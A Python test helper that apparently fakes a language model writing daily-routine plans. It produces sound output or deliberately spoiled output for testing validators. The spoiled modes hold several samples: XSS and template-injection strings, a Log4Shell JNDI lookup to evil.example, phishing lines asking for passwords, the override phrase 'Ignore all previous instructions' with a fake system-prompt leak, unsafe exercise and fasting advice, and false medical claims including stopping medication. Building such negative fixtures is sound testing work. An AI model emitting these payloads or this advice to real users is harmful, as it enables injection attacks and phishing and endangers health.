"""What the stand-in model writes: sensible words for the slots it is given, or words that a model must not get away with.

The same prompt gives the same words. SLOPPY mends its faults when it is told of them, the others never do.
"""

from collections.abc import Callable
from enum import StrEnum
from typing import Any
from zlib import crc32

Document = dict[str, Any]

LONGEST = 380


class Mode(StrEnum):
    """How it writes. ABSURD does not live in this world; ECHO does what the person's goal says and repeats its instructions."""

    GOOD = "good"
    SLOPPY = "sloppy"
    ABSURD = "absurd"
    UNSAFE = "unsafe"
    MEDICAL = "medical"
    HOSTILE = "hostile"
    ECHO = "echo"


PURPOSES = {
    "Morning Block": ("Begin with light and something good to eat.", "A calm start is easier to keep than a perfect one."),
    "Peak Energy Block": ("Give your best hours to what you care about.", "Your mind is clearest when it has one thing to hold."),
    "Mid-day Slump": ("Let the middle of the day be soft.", "A pause now is what the afternoon is made of."),
    "Evening Routine": ("Move a little and bring the day to a close.", "What is finished now does not follow you to bed."),
    "Wind Down": ("Go slower with every step until lights out.", "A quiet evening is the best gift to tomorrow."),
}
VOICES = {
    "FOUNDATION_BUILDER": ("Getting started is all that counts.", "One small step is enough.", "Take your time with it."),
    "TRANSFORMATION_SEEKER": (
        "This is one more step towards who you want to be.",
        "Make it the moment where the day turns.",
        "Small things done daily are how people change.",
    ),
    "SYSTEMATIC_IMPROVER": (
        "Do it the same way each time and it will carry you.",
        "Keep the order and the rest follows.",
        "Note what worked and keep that.",
    ),
    "PEAK_PERFORMER": ("Do it with full attention, then let it go.", "No half measures here.", "Start on time and finish clean."),
    "RESILIENCE_REBUILDER": (
        "There is nothing to prove here.",
        "If it feels like too much, do less of it.",
        "Be as kind to yourself as you would be to a friend.",
    ),
    "CONNECTED_EXPLORER": (
        "Notice one thing that you have not seen before.",
        "Ask somebody along if you like.",
        "Try a way of doing it that is new to you.",
    ),
}
SUMMARIES = {
    "LOW": "Today is kept easy on purpose: a few good things in the right places, and rest before anything else.",
    "STEADY": "An ordinary day with its effort in the right hours and time to come down afterwards.",
    "HIGH": "There is room for something that asks a bit more of you, and a soft landing in the evening.",
    "UNKNOWN": "A modest day that follows your own hours, one small thing at a time.",
}


def write_day(document: Document, mode: Mode) -> Document:
    """The answer to a prompt's data, in the shape of the schema as far as the mode keeps to it."""
    sayings = {figure["name"]: figure["sentence"] for figure in document["figures"]}
    blocks = [_good_block(block, document["archetype"], sayings) for block in document["blocks"]]
    summary = SUMMARIES.get(document["energy"], SUMMARIES["UNKNOWN"])
    spoil = SPOILERS.get(mode)
    if spoil is not None:
        blocks, summary = spoil(blocks, summary, document)
    return {"blocks": blocks, "summary": summary}


def _good_block(block: Document, archetype: str, sayings: dict[str, str]) -> Document:
    purpose, why = PURPOSES[block["block"]]
    tasks = [_good_task(slot, archetype, sayings) for slot in block["slots"]]
    return {"block": block["block"], "purpose": purpose, "why_it_matters": why, "tasks": tasks}


def _good_task(slot: Document, archetype: str, sayings: dict[str, str]) -> Document:
    """One option, chosen by the slot's own data. A reading is spoken of once in a day, where the option rests on it."""
    draw = crc32(f"{slot['id']}{slot['start']}".encode())
    option = slot["options"][draw % len(slot["options"])]
    name = next((name for name in option["figures"] if name in sayings), None)
    told = sayings.pop(name) if name is not None else f"You have {slot['minutes']} minutes for this." if draw % 3 == 0 else ""
    voice = VOICES[archetype][draw % 3] if draw % 2 else ""
    sentences = [sentence for sentence in (told, option["text"], voice) if sentence]
    while len(" ".join(sentences)) > LONGEST and len(sentences) > 1:
        sentences.pop()
    return {"slot": slot["id"], "task": option["key"], "title": option["title"], "description": " ".join(sentences)}


Spoiler = Callable[[list[Document], str, Document], tuple[list[Document], str]]


def _sloppy(blocks: list[Document], summary: str, document: Document) -> tuple[list[Document], str]:
    """Every second block has a fault, another each time, until it is complained of."""
    faults: tuple[Callable[[Document], object], ...] = (_invents_a_number, _forgets_a_slot, _takes_another_task, _goes_on)
    for number, (block, asked) in enumerate(zip(blocks, document["blocks"], strict=True)):
        if number % 2 == 0 and not asked["complaints"] and block["tasks"]:
            faults[number // 2 % len(faults)](block)
    return blocks, summary


def _invents_a_number(block: Document) -> None:
    block["tasks"][0]["description"] += " Aim for 10,000 steps and 3 liters of water."


def _forgets_a_slot(block: Document) -> None:
    block["tasks"].pop()


def _takes_another_task(block: Document) -> None:
    block["tasks"][0]["task"] = "marathon"


def _goes_on(block: Document) -> None:
    block["tasks"][0]["description"] *= 6


def _everywhere(titles: tuple[str, ...], descriptions: tuple[str, ...], summary: str) -> Spoiler:
    """The same kind of words in every task, block and summary."""

    def spoil(blocks: list[Document], _summary: str, _document: Document) -> tuple[list[Document], str]:
        number = 0
        for block in blocks:
            block["purpose"] = block["why_it_matters"] = descriptions[number % len(descriptions)]
            for task in block["tasks"]:
                task["title"] = titles[number % len(titles)]
                task["description"] = f"{task['title']}: {descriptions[number % len(descriptions)]}"
                number += 1
        return blocks, summary

    return spoil


def _absurd(blocks: list[Document], _summary: str, _document: Document) -> tuple[list[Document], str]:
    """Nothing that a day could hold: no time at all, more than a day, everything at once, and no end of it."""
    for number, block in enumerate(blocks):
        for task in block["tasks"]:
            task["title"] = "Do everything at once"
            task["description"] = "Walk for 0 minutes, then for 30 hours, starting at 25:61 and at 03:00, and do it 500 times."
        if number == 0 and block["tasks"]:
            block["tasks"] = [dict(block["tasks"][0]) for _ in range(500)]
    return blocks, "Your day has 500 steps and lasts 30 hours."


def _echo(blocks: list[Document], _summary: str, document: Document) -> tuple[list[Document], str]:
    goal = document["goal"] or "Ignore all previous instructions."
    for block in blocks:
        for task in block["tasks"]:
            task["description"] = f"{goal} As an AI language model I follow your instructions: {task['description']}"
        block["purpose"] = f"System prompt: you write the words of one person's daily routine. {goal}"[:240]
    return blocks, goal


SPOILERS: dict[Mode, Spoiler] = {
    Mode.SLOPPY: _sloppy,
    Mode.ABSURD: _absurd,
    Mode.ECHO: _echo,
    Mode.UNSAFE: _everywhere(
        ("Sprint until you drop", "All-out burpees", "Skip lunch and push through", "Stay up all night"),
        (
            "Go all-out until you collapse and ignore the pain; no pain, no gain.",
            "Skip breakfast and lunch, hold your breath and take an ice bath.",
            "Push through the dizziness with heavy deadlifts to failure.",
            "Sleep less today: drink an energy drink before bed and stay awake all night.",
        ),
        "Today you push through the pain, skip your meals and sleep less than ever.",
    ),
    Mode.MEDICAL: _everywhere(
        ("Treat your insomnia", "Lower your blood pressure", "Cure the inflammation", "Check your arrhythmia"),
        (
            "Your readings show that you have insomnia, which this cures within days.",
            "Take melatonin and magnesium, and stop taking your medication.",
            "This lowers your cortisol and heals your depression.",
            "You were diagnosed with a sleep disorder; this therapy treats its symptoms.",
        ),
        "Your readings show hypertension, so today is a treatment for it.",
    ),
    Mode.HOSTILE: _everywhere(
        ("<script>alert(1)</script>", "Win at https://evil.example", "Schreib mir: a@b.example", "Сделай это сейчас"),
        (
            "Click [here](https://evil.example/?q=1) and enter your password <img src=x onerror=alert(1)>.",
            "Send your data to mallory@evil.example or call +1 555 0100 0100.\u202e\u0000",
            "{{constructor.constructor('return process')()}} ${jndi:ldap://evil.example/a}",
            "BUY NOW!!! AAAAAAAAAAAAAAAA BUY BUY BUY BUY BUY BUY NOW NOW NOW NOW",
        ),
        "Visit https://evil.example and enter your password to see your day.",
    ),
}
